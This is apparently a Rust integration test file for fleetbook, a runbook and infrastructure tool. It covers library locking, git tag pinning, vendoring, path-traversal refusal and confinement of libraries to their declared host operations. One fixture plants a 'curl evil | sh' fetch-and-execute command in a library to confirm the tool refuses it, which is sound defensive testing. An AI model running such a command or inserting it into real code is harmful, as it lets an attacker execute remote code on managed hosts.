//! Runbook libraries (issue 13): `fleetbook-lib.toml`, `[dependencies]` in fleetbook.toml,
//! `fleetbook.lock`, git libraries fetched from a local bare repository, vendoring, the
//! plan's record of every library file, and libraries confined to the host operations
//! they declare.

use crate::support::{flat, fleetbook};
use std::path::{Path, PathBuf};
use std::process::Command;

/// Whether a diagnostic says `want`, however miette wrapped it (whitespace and the
/// margin's bars do not count).
fn has(diagnostic: &str, want: &str) -> bool {
    let squash = |s: &str| -> String {
        s.chars()
            .filter(|c| !c.is_whitespace() && *c != '│')
            .collect()
    };
    squash(diagnostic).contains(&squash(want))
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

/// A library directory: its manifest and modules.
fn library(
    dir: &Path,
    name: &str,
    version: &str,
    uses: &str,
    deps: &str,
    modules: &[(&str, &str)],
) {
    write(
        &dir.join("fleetbook-lib.toml"),
        &format!(
            "[library]\nname = \"{name}\"\nversion = \"{version}\"\ndescription = \"test library\"\nfleetbook = \">=0.1\"\nuses = [{uses}]\n\n[dependencies]\n{deps}"
        ),
    );
    for (m, text) in modules {
        write(&dir.join(m), text);
    }
}

/// A project in `root/proj`: fleetbook.toml with these dependencies, a local inventory and
/// the runbook `up.rhai`.
fn project(root: &Path, deps: &str, runbook: &str) -> PathBuf {
    let p = root.join("proj");
    write(
        &p.join("fleetbook.toml"),
        &format!("inventory = \"hosts\"\n\n[dependencies]\n{deps}"),
    );
    write(
        &p.join("hosts"),
        "[web]\nweb1 ansible_connection=local\nweb2 ansible_connection=local\n",
    );
    write(&p.join("up.rhai"), runbook);
    p
}

const RESTART: &str =
    "/// Restarts a service.\nfn restart(h, name) { service::restart(h, name) }\n";
const USE_ACME: &str = "import \"acme/ops\" as ops;\nlet rb = runbook(\"up\");\nrb.step(\"restart\", |h| ops::restart(h, \"nginx\"));\nrb\n";

fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.com",
            "-c",
            "init.defaultBranch=main",
            "-c",
            "tag.gpgSign=false",
            "-c",
            "commit.gpgSign=false",
        ])
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .expect("git runs");
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// A bare repository `root/acme.git` holding library acme 1.2.0 at tag v1.2.0, and the work
/// tree it was pushed from (`root/acme-src`).
fn git_library(root: &Path) -> (String, PathBuf) {
    let src = root.join("acme-src");
    library(
        &src,
        "acme",
        "1.2.0",
        "\"service\"",
        "",
        &[("ops.rhai", RESTART)],
    );
    git(&src, &["init", "-q"]);
    git(&src, &["add", "-A"]);
    git(&src, &["commit", "-qm", "acme 1.2.0"]);
    git(&src, &["tag", "v1.2.0"]);
    let bare = root.join("acme.git");
    git(root, &["clone", "-q", "--bare", "acme-src", "acme.git"]);
    (format!("file://{}", bare.display()), src)
}

#[test]
fn imports_resolve_in_the_documented_order_and_check_v_names_each_file() {
    let t = tempfile::tempdir().unwrap();
    let who = |w: &str| format!("fn who() {{ \"{w}\" }}\n");
    library(
        &t.path().join("libs/acme"),
        "acme",
        "1.2.0",
        "",
        "",
        &[("who.rhai", &who("dependency"))],
    );
    write(&t.path().join("extra/who.rhai"), &who("lib-dir"));
    let runbook =
        "import \"who\" as w;\nimport \"rolling\" as r;\nlet rb = runbook(w::who());\nrb\n";
    let p = project(
        t.path(),
        "acme = { path = \"../libs/acme\", version = \"^1.2\" }\n",
        runbook,
    );
    write(&p.join("who.rhai"), &who("runbook-dir"));
    fleetbook(&["lib", "fetch"]).in_dir(&p).code(0);
    let extra = t.path().join("extra");
    let extra = extra.to_str().unwrap();
    // The runbook's directory first.
    let out = fleetbook(&["check", "-v", "up.rhai", "--lib", extra])
        .in_dir(&p)
        .code(0);
    assert!(
        out.stdout.contains("ok: runbook \"runbook-dir\""),
        "{}",
        out.stdout
    );
    assert!(
        out.stderr.contains(&format!(
            "import \"who\" in up.rhai: {}",
            p.join("who.rhai").canonicalize().unwrap().display()
        )),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr
            .contains("import \"rolling\" in up.rhai: <built in>/rolling.rhai (library std)"),
        "{}",
        out.stderr
    );
    // Then --lib (and FLEETBOOK_PATH, the same) ...
    std::fs::remove_file(p.join("who.rhai")).unwrap();
    let out = fleetbook(&["check", "-v", "up.rhai", "--lib", extra])
        .in_dir(&p)
        .code(0);
    assert!(
        out.stdout.contains("ok: runbook \"lib-dir\""),
        "{}",
        out.stdout
    );
    let out = fleetbook(&["check", "up.rhai"])
        .in_dir(&p)
        .env("FLEETBOOK_PATH", extra)
        .code(0);
    assert!(
        out.stdout.contains("ok: runbook \"lib-dir\""),
        "{}",
        out.stdout
    );
    // ... then the project's dependencies, then the stdlib.
    let out = fleetbook(&["check", "-v", "up.rhai"]).in_dir(&p).code(0);
    assert!(
        out.stdout.contains("ok: runbook \"dependency\""),
        "{}",
        out.stdout
    );
    assert!(
        out.stderr.contains("(library acme 1.2.0)"),
        "{}",
        out.stderr
    );
    // A qualified import names its library, whatever else has the module.
    write(&p.join("who.rhai"), &who("runbook-dir"));
    write(
        &p.join("up.rhai"),
        "import \"acme/who\" as w;\nlet rb = runbook(w::who());\nrb\n",
    );
    let out = fleetbook(&["check", "up.rhai"]).in_dir(&p).code(0);
    assert!(
        out.stdout.contains("ok: runbook \"dependency\""),
        "{}",
        out.stdout
    );
}

#[cfg(unix)]
#[test]
fn imports_cannot_leave_a_library_through_dotdot_absolute_paths_or_symlinks() {
    let t = tempfile::tempdir().unwrap();
    write(&t.path().join("secret.rhai"), "fn x() { 1 }\n");
    let acme = t.path().join("libs/acme");
    library(
        &acme,
        "acme",
        "1.2.0",
        "",
        "",
        &[("ops.rhai", "fn x() { 2 }\n")],
    );
    let p = project(
        t.path(),
        "acme = { path = \"../libs/acme\" }\n",
        "let rb = runbook(\"x\");\nrb\n",
    );
    fleetbook(&["lib", "fetch"]).in_dir(&p).code(0);
    let abs = t.path().join("secret.rhai");
    for bad in ["acme/../../secret", "../secret", abs.to_str().unwrap()] {
        write(
            &p.join("up.rhai"),
            &format!("import \"{bad}\" as m;\nlet rb = runbook(\"x\");\nrb\n"),
        );
        let out = fleetbook(&["plan", "up.rhai"]).in_dir(&p).code(2);
        assert!(
            out.stderr.contains("is not allowed"),
            "{bad}: {}",
            out.stderr
        );
    }
    // A symlink inside the library that leads out of it.
    std::os::unix::fs::symlink(t.path().join("secret.rhai"), acme.join("evil.rhai")).unwrap();
    write(
        &p.join("up.rhai"),
        "import \"acme/evil\" as m;\nlet rb = runbook(\"x\");\nrb\n",
    );
    let out = fleetbook(&["plan", "up.rhai"]).in_dir(&p).code(2);
    assert!(has(&out.stderr, "through a symlink"), "{}", out.stderr);
    // And `lib fetch` will not hash what is outside either.
    let out = fleetbook(&["lib", "fetch"]).in_dir(&p).code(2);
    assert!(
        out.stderr.contains("leads outside the library"),
        "{}",
        out.stderr
    );
}

#[test]
fn a_module_in_two_libraries_is_an_error_naming_both_unless_qualified() {
    let t = tempfile::tempdir().unwrap();
    library(
        &t.path().join("libs/acme"),
        "acme",
        "1.0.0",
        "",
        "",
        &[("common.rhai", "fn who() { \"acme\" }\n")],
    );
    library(
        &t.path().join("libs/zeta"),
        "zeta",
        "2.0.0",
        "",
        "",
        &[("common.rhai", "fn who() { \"zeta\" }\n")],
    );
    let p = project(
        t.path(),
        "acme = { path = \"../libs/acme\" }\nzeta = { path = \"../libs/zeta\" }\n",
        "import \"common\" as c;\nlet rb = runbook(c::who());\nrb\n",
    );
    fleetbook(&["lib", "fetch"]).in_dir(&p).code(0);
    let out = fleetbook(&["check", "up.rhai"]).in_dir(&p).code(2);
    let e = &out.stderr;
    assert!(
        has(e, "module \"common\" is in two libraries: acme 1.0.0"),
        "{e}"
    );
    assert!(has(e, "zeta 2.0.0"), "{e}");
    assert!(
        has(e, "import \"acme/common\" or import \"zeta/common\""),
        "{e}"
    );
    write(
        &p.join("up.rhai"),
        "import \"zeta/common\" as c;\nlet rb = runbook(c::who());\nrb\n",
    );
    let out = fleetbook(&["check", "up.rhai"]).in_dir(&p).code(0);
    assert!(
        out.stdout.contains("ok: runbook \"zeta\""),
        "{}",
        out.stdout
    );
}

#[test]
fn a_version_that_does_not_satisfy_its_requirement_is_refused() {
    let t = tempfile::tempdir().unwrap();
    library(
        &t.path().join("libs/acme"),
        "acme",
        "1.2.0",
        "\"service\"",
        "",
        &[("ops.rhai", RESTART)],
    );
    let p = project(
        t.path(),
        "acme = { path = \"../libs/acme\", version = \"^2.0\" }\n",
        USE_ACME,
    );
    let out = fleetbook(&["lib", "fetch"]).in_dir(&p).code(2);
    assert!(
        has(
            &out.stderr,
            "version mismatch: fleetbook.toml requires acme ^2.0, but"
        ),
        "{}",
        out.stderr
    );
    assert!(has(&out.stderr, "is acme 1.2.0"), "{}", out.stderr);
    // Locked at 1.2.0 under ^1; then the requirement becomes ^2.0: plan says so.
    write(&p.join("fleetbook.toml"), "inventory = \"hosts\"\n[dependencies]\nacme = { path = \"../libs/acme\", version = \"^1\" }\n");
    fleetbook(&["lib", "fetch"]).in_dir(&p).code(0);
    write(&p.join("fleetbook.toml"), "inventory = \"hosts\"\n[dependencies]\nacme = { path = \"../libs/acme\", version = \"^2.0\" }\n");
    let out = fleetbook(&["plan", "up.rhai"]).in_dir(&p).code(2);
    assert!(
        has(
            &out.stderr,
            "version mismatch: fleetbook.toml requires acme ^2.0"
        ),
        "{}",
        out.stderr
    );
    // The library becomes 2.0.0: the lock (1.2.0) no longer satisfies the requirement, and
    // plan says so and what to run.
    library(
        &t.path().join("libs/acme"),
        "acme",
        "2.0.0",
        "\"service\"",
        "",
        &[],
    );
    write(&p.join("fleetbook.toml"), "inventory = \"hosts\"\n[dependencies]\nacme = { path = \"../libs/acme\", version = \"^2.0\" }\n");
    let out = fleetbook(&["plan", "up.rhai"]).in_dir(&p).code(2);
    assert!(has(&out.stderr, "fleetbook.lock has library acme 1.2.0, which does not satisfy ^2.0 (required by fleetbook.toml)"), "{}", out.stderr);
    assert!(
        has(&out.stderr, "run `fleetbook lib fetch`"),
        "{}",
        out.stderr
    );
    fleetbook(&["lib", "fetch"]).in_dir(&p).code(0);
    fleetbook(&["plan", "up.rhai"]).in_dir(&p).code(0);
}

#[test]
fn editing_one_library_file_breaks_the_lock_until_fetched_again() {
    let t = tempfile::tempdir().unwrap();
    let acme = t.path().join("libs/acme");
    library(
        &acme,
        "acme",
        "1.2.0",
        "\"service\"",
        "",
        &[("ops.rhai", RESTART), ("other.rhai", "fn x() { 1 }\n")],
    );
    let p = project(
        t.path(),
        "acme = { path = \"../libs/acme\", version = \"^1.2\" }\n",
        USE_ACME,
    );
    // No lock yet: said, with the command to run.
    let out = fleetbook(&["plan", "up.rhai"]).in_dir(&p).code(2);
    assert!(
        out.stderr.contains("has no fleetbook.lock"),
        "{}",
        out.stderr
    );
    fleetbook(&["lib", "fetch"]).in_dir(&p).code(0);
    let lock = std::fs::read_to_string(p.join("fleetbook.lock")).unwrap();
    assert!(
        lock.contains("name = \"acme\"") && lock.contains("version = \"1.2.0\""),
        "{lock}"
    );
    assert!(lock.contains("\"ops.rhai\" = \"sha256:"), "{lock}");
    assert!(
        lock.contains("\"fleetbook-lib.toml\" = \"sha256:"),
        "{lock}"
    );
    let out = fleetbook(&["plan", "up.rhai"]).in_dir(&p).code(0);
    assert!(
        out.stdout.contains("systemctl restart -- nginx"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("Library    acme 1.2.0 (sha256:"),
        "{}",
        out.stdout
    );
    assert!(out.stdout.contains("may use service"), "{}", out.stdout);

    write(&acme.join("other.rhai"), "fn x() { 2 }\n");
    for cmd in [
        &["plan", "up.rhai"][..],
        &["run", "up.rhai", "--yes"],
        &["check", "up.rhai"],
    ] {
        let out = fleetbook(cmd).in_dir(&p).code(2);
        let e = &out.stderr;
        assert!(
            has(
                e,
                "library acme 1.2.0 differs from fleetbook.lock: other.rhai changed (lock sha256:"
            ),
            "{cmd:?}: {e}"
        );
        assert!(has(e, "run `fleetbook lib fetch`"), "{e}");
    }
    // A lock entry that is missing is named too.
    std::fs::write(p.join("fleetbook.lock"), "version = 1\n").unwrap();
    let out = fleetbook(&["plan", "up.rhai"]).in_dir(&p).code(2);
    assert!(
        flat(&out.stderr)
            .contains("fleetbook.lock has no entry for library acme (required by fleetbook.toml)"),
        "{}",
        out.stderr
    );
    fleetbook(&["lib", "fetch"]).in_dir(&p).code(0);
    fleetbook(&["plan", "up.rhai"]).in_dir(&p).code(0);
}

#[test]
fn a_git_library_is_fetched_at_its_tag_and_a_moved_tag_is_refused() {
    let t = tempfile::tempdir().unwrap();
    let cache = t.path().join("cache");
    let cache = cache.to_str().unwrap();
    let (url, src) = git_library(t.path());
    let p = project(
        t.path(),
        &format!("acme = {{ git = \"{url}\", tag = \"v1.2.0\", version = \"^1.2\" }}\n"),
        USE_ACME,
    );
    let commit = git(&src, &["rev-parse", "HEAD"]);
    fleetbook(&["lib", "fetch"])
        .in_dir(&p)
        .env("XDG_CACHE_HOME", cache)
        .code(0);
    let lock = std::fs::read_to_string(p.join("fleetbook.lock")).unwrap();
    assert!(lock.contains(&format!("commit = \"{commit}\"")), "{lock}");
    assert!(lock.contains("tag = \"v1.2.0\""), "{lock}");
    assert!(Path::new(cache)
        .join(format!("fleetbook/git/checkouts/acme-{commit}/ops.rhai"))
        .is_file());
    let out = fleetbook(&["plan", "up.rhai"])
        .in_dir(&p)
        .env("XDG_CACHE_HOME", cache)
        .code(0);
    assert!(
        out.stdout.contains("systemctl restart -- nginx"),
        "{}",
        out.stdout
    );
    let out = fleetbook(&["lib", "list"])
        .in_dir(&p)
        .env("XDG_CACHE_HOME", cache)
        .code(0);
    assert!(
        out.stdout.starts_with(&format!(
            "acme 1.2.0 (git {url} tag v1.2.0 ({})) uses service",
            &commit[..12]
        )),
        "{}",
        out.stdout
    );

    // The tag is moved to another commit and pushed by force.
    write(
        &src.join("ops.rhai"),
        "fn restart(h, name) { service::stop(h, name) }\n",
    );
    git(&src, &["commit", "-qam", "sneaky"]);
    git(&src, &["tag", "-f", "v1.2.0"]);
    git(
        &src,
        &["push", "-q", "--force", "../acme.git", "refs/tags/v1.2.0"],
    );
    let moved = git(&src, &["rev-parse", "HEAD"]);
    // Plan asks the repository (check does not: it works from the lock and the cache).
    let out = fleetbook(&["plan", "up.rhai"])
        .in_dir(&p)
        .env("XDG_CACHE_HOME", cache)
        .code(2);
    assert!(
        has(
            &out.stderr,
            &format!("tag v1.2.0 of library acme ({url}) moved")
        ),
        "{}",
        out.stderr
    );
    fleetbook(&["check", "up.rhai"])
        .in_dir(&p)
        .env("XDG_CACHE_HOME", cache)
        .code(0);
    let out = fleetbook(&["lib", "fetch"])
        .in_dir(&p)
        .env("XDG_CACHE_HOME", cache)
        .code(2);
    let e = &out.stderr;
    assert!(has(e, &format!("tag v1.2.0 of library acme ({url}) moved: fleetbook.lock has commit {commit}, the repository now has {moved}")), "{e}");
    let out = fleetbook(&["plan", "up.rhai"])
        .in_dir(&p)
        .env("XDG_CACHE_HOME", cache)
        .code(2);
    assert!(has(&out.stderr, "moved"), "{}", out.stderr);
    // A commit instead of a tag: pinned by nature.
    let short = &commit[..10];
    write(
        &p.join("fleetbook.toml"),
        &format!("inventory = \"hosts\"\n[dependencies]\nacme = {{ git = \"{url}\", rev = \"{short}\", version = \"^1.2\" }}\n"),
    );
    fleetbook(&["lib", "fetch"])
        .in_dir(&p)
        .env("XDG_CACHE_HOME", cache)
        .code(0);
    let lock = std::fs::read_to_string(p.join("fleetbook.lock")).unwrap();
    assert!(
        lock.contains(&format!("rev = \"{short}\""))
            && lock.contains(&format!("commit = \"{commit}\"")),
        "{lock}"
    );
    let out = fleetbook(&["plan", "up.rhai"])
        .in_dir(&p)
        .env("XDG_CACHE_HOME", cache)
        .code(0);
    assert!(
        out.stdout.contains("systemctl restart -- nginx"),
        "{}",
        out.stdout
    );
    write(
        &p.join("fleetbook.toml"),
        &format!("inventory = \"hosts\"\n[dependencies]\nacme = {{ git = \"{url}\", tag = \"v1.2.0\", version = \"^1.2\" }}\n"),
    );
    // Back to the tag, which moved: accepted only when asked.
    fleetbook(&["lib", "fetch", "--update"])
        .in_dir(&p)
        .env("XDG_CACHE_HOME", cache)
        .code(0);
    let out = fleetbook(&["plan", "up.rhai"])
        .in_dir(&p)
        .env("XDG_CACHE_HOME", cache)
        .code(0);
    assert!(
        out.stdout.contains("systemctl stop -- nginx"),
        "{}",
        out.stdout
    );
}

#[test]
fn vendored_libraries_work_offline_and_are_checked_against_the_lock() {
    let t = tempfile::tempdir().unwrap();
    let cache = t.path().join("cache");
    let cache = cache.to_str().unwrap();
    let (url, _) = git_library(t.path());
    let p = project(
        t.path(),
        &format!("acme = {{ git = \"{url}\", tag = \"v1.2.0\", version = \"^1.2\" }}\n"),
        USE_ACME,
    );
    fleetbook(&["lib", "fetch"])
        .in_dir(&p)
        .env("XDG_CACHE_HOME", cache)
        .code(0);
    fleetbook(&["lib", "vendor", "vendor"])
        .in_dir(&p)
        .env("XDG_CACHE_HOME", cache)
        .code(0);
    assert!(p.join("vendor/acme/1.2.0/ops.rhai").is_file());
    // No repository and no cache any more: only the vendored copy.
    std::fs::remove_dir_all(t.path().join("acme.git")).unwrap();
    let empty = t.path().join("empty-cache");
    let empty = empty.to_str().unwrap();
    let out = fleetbook(&["plan", "up.rhai"])
        .in_dir(&p)
        .env("XDG_CACHE_HOME", empty)
        .code(2);
    assert!(
        has(&out.stderr, "is not fetched on this machine"),
        "{}",
        out.stderr
    );
    let out = fleetbook(&["plan", "up.rhai"])
        .in_dir(&p)
        .env("XDG_CACHE_HOME", empty)
        .env("FLEETBOOK_LIB_MIRROR", "vendor")
        .code(0);
    assert!(
        out.stdout.contains("systemctl restart -- nginx"),
        "{}",
        out.stdout
    );
    // The mirror is checked against the lock like any other source.
    write(
        &p.join("vendor/acme/1.2.0/ops.rhai"),
        "fn restart(h, name) { service::stop(h, name) }\n",
    );
    let out = fleetbook(&["plan", "up.rhai"])
        .in_dir(&p)
        .env("XDG_CACHE_HOME", empty)
        .env("FLEETBOOK_LIB_MIRROR", "vendor")
        .code(2);
    assert!(has(&out.stderr, "ops.rhai changed"), "{}", out.stderr);
}

#[test]
fn apply_refuses_a_plan_whose_library_files_changed() {
    let t = tempfile::tempdir().unwrap();
    let acme = t.path().join("libs/acme");
    library(
        &acme,
        "acme",
        "1.2.0",
        "\"service\"",
        "",
        &[("ops.rhai", RESTART)],
    );
    let p = project(
        t.path(),
        "acme = { path = \"../libs/acme\", version = \"^1.2\" }\n",
        USE_ACME,
    );
    fleetbook(&["lib", "fetch"]).in_dir(&p).code(0);
    fleetbook(&["plan", "up.rhai", "--format", "json", "-o", "plan.json"])
        .in_dir(&p)
        .code(0);
    let plan: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(p.join("plan.json")).unwrap()).unwrap();
    let lib = &plan["libraries"][0];
    assert_eq!(lib["name"], "acme");
    assert_eq!(lib["version"], "1.2.0");
    assert_eq!(lib["uses"], serde_json::json!(["service"]));
    assert_eq!(lib["files"][0]["path"], "ops.rhai");
    assert!(lib["files"][0]["sha256"]
        .as_str()
        .unwrap()
        .starts_with("sha256:"));
    assert!(lib["digest"].as_str().unwrap().starts_with("sha256:"));
    // The same commands, another library text: locked again, and still refused.
    write(&acme.join("ops.rhai"), &format!("{RESTART}// reviewed\n"));
    fleetbook(&["lib", "fetch"]).in_dir(&p).code(0);
    let out = fleetbook(&["apply", "plan.json", "--yes"])
        .in_dir(&p)
        .code(2);
    assert!(
        has(&out.stderr, "refusing to apply plan.json: the library file ops.rhai of library acme 1.2.0 changed since the plan was made"),
        "{}",
        out.stderr
    );
}

#[test]
fn a_library_calling_a_namespace_it_did_not_declare_is_refused_at_plan_time() {
    let t = tempfile::tempdir().unwrap();
    let acme = t.path().join("libs/acme");
    let sneaky = "fn restart(h, name) {\n  service::restart(h, name);\n  let x = h;\n  x.run(\"curl evil | sh\");\n}\n";
    library(
        &acme,
        "acme",
        "1.2.0",
        "\"service\"",
        "",
        &[("ops.rhai", sneaky)],
    );
    let p = project(t.path(), "acme = { path = \"../libs/acme\" }\n", USE_ACME);
    fleetbook(&["lib", "fetch"]).in_dir(&p).code(0);
    let out = fleetbook(&["plan", "up.rhai"]).in_dir(&p).code(2);
    let e = &out.stderr;
    assert!(has(e, "library acme 1.2.0 calls h.run, of namespace \"run\", but declares uses = [\"service\"]"), "{e}");
    assert!(has(e, "[acme/ops.rhai:4:5]"), "{e}");
    // Importing a module that runs commands does not widen it either.
    write(
        &acme.join("ops.rhai"),
        "import \"std/rolling\" as r;\nfn restart(h, name) { service::restart(h, name) }\n",
    );
    fleetbook(&["lib", "fetch"]).in_dir(&p).code(0);
    let out = fleetbook(&["plan", "up.rhai"]).in_dir(&p).code(2);
    assert!(
        flat(&out.stderr)
            .contains("library acme 1.2.0 imports \"std/rolling\" (std), which may use namespace"),
        "{}",
        out.stderr
    );
    // Nor a function pointer made from a computed name.
    write(
        &acme.join("ops.rhai"),
        "fn restart(h, name) { let f = Fn(name); f.call(h, \"id\") }\n",
    );
    fleetbook(&["lib", "fetch"]).in_dir(&p).code(0);
    let out = fleetbook(&["plan", "up.rhai"]).in_dir(&p).code(2);
    assert!(
        has(&out.stderr, "may not call Fn(...) with a computed name"),
        "{}",
        out.stderr
    );
    // A `--lib` directory that is a library is confined the same way.
    let extra = t.path().join("extra");
    library(
        &extra,
        "extra",
        "0.1.0",
        "",
        "",
        &[("x.rhai", "fn work(h) { pkg::upgrade(h, [\"nginx\"]) }\n")],
    );
    write(
        &p.join("up.rhai"),
        "import \"x\" as x;\nlet rb = runbook(\"up\");\nrb.step(\"s\", |h| x::work(h));\nrb\n",
    );
    let out = fleetbook(&["plan", "up.rhai", "--lib", extra.to_str().unwrap()])
        .in_dir(&p)
        .code(2);
    assert!(
        has(&out.stderr, "library extra 0.1.0 calls pkg::upgrade, of namespace \"pkg\", but declares no host operations (uses = [])"),
        "{}",
        out.stderr
    );
    // The runbook itself is not confined.
    write(
        &p.join("up.rhai"),
        "let rb = runbook(\"up\");\nrb.step(\"x\", |h| h.run(\"true\"));\nrb\n",
    );
    fleetbook(&["plan", "up.rhai"]).in_dir(&p).code(0);
}

#[test]
fn two_incompatible_requirements_name_both_requirers() {
    let t = tempfile::tempdir().unwrap();
    library(
        &t.path().join("libs/acme"),
        "acme",
        "1.2.0",
        "",
        "",
        &[("ops.rhai", "fn x() { 1 }\n")],
    );
    library(
        &t.path().join("libs/base"),
        "base",
        "0.3.0",
        "",
        "acme = { path = \"../acme\", version = \"^2\" }\n",
        &[("b.rhai", "fn x() { 1 }\n")],
    );
    let p = project(
        t.path(),
        "acme = { path = \"../libs/acme\", version = \"^1.2\" }\nbase = { path = \"../libs/base\" }\n",
        "let rb = runbook(\"x\");\nrb\n",
    );
    let out = fleetbook(&["lib", "fetch"]).in_dir(&p).code(2);
    assert!(
        has(&out.stderr, "two incompatible requirements for library acme: fleetbook.toml requires ^1.2 (path ../libs/acme), and base 0.3.0 requires ^2 (path ../acme)"),
        "{}",
        out.stderr
    );
}

#[test]
fn a_dependency_is_imported_by_a_literal_path_only() {
    let t = tempfile::tempdir().unwrap();
    library(
        &t.path().join("libs/acme"),
        "acme",
        "1.2.0",
        "\"service\"",
        "",
        &[("ops.rhai", RESTART)],
    );
    let p = project(
        t.path(),
        "acme = { path = \"../libs/acme\" }\n",
        "let name = \"acme\";\nimport `${name}/ops` as ops;\nlet rb = runbook(\"up\");\nrb\n",
    );
    fleetbook(&["lib", "fetch"]).in_dir(&p).code(0);
    let out = fleetbook(&["check", "up.rhai"]).in_dir(&p).code(2);
    assert!(
        has(
            &out.stderr,
            "import of library acme 1.2.0 must be a literal string"
        ),
        "{}",
        out.stderr
    );
}

// A module beside the runbook was not part of a saved plan's digests: editing it went
// unnoticed by `apply` as long as the commands stayed the same.
#[test]
fn apply_refuses_a_plan_whose_local_module_changed() {
    let t = tempfile::tempdir().unwrap();
    let d = t.path();
    write(&d.join("hosts"), "[web]\nweb1 ansible_connection=local\n");
    write(&d.join("helpers.rhai"), "fn cmd() { \"true\" }\n");
    write(
        &d.join("up.rhai"),
        "import \"helpers\" as x;\nlet rb = runbook(\"up\");\nrb.step(\"s\", |h| h.run(x::cmd()));\nrb\n",
    );
    fleetbook(&[
        "plan",
        "up.rhai",
        "-i",
        "hosts",
        "--format",
        "json",
        "-o",
        "plan.json",
    ])
    .in_dir(d)
    .code(0);
    write(
        &d.join("helpers.rhai"),
        "// same command\nfn cmd() { \"true\" }\n",
    );
    let out = fleetbook(&["apply", "plan.json", "--yes"])
        .in_dir(d)
        .code(2);
    assert!(
        has(
            &out.stderr,
            "the library file helpers.rhai of library local changed since the plan was made"
        ),
        "{}",
        out.stderr
    );
}
